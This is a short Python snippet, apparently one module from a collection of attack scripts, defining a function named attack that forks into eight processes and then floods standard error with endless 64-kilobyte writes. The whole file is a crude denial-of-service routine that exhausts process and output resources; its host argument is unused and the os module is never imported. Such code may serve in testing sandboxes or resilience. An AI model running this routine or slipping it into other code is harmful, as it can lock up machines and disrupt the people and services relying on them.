"""Output of many children without end."""


def attack(host):
    for _ in range(3):
        os.fork()
    while True:
        os.write(2, bytes(65536))
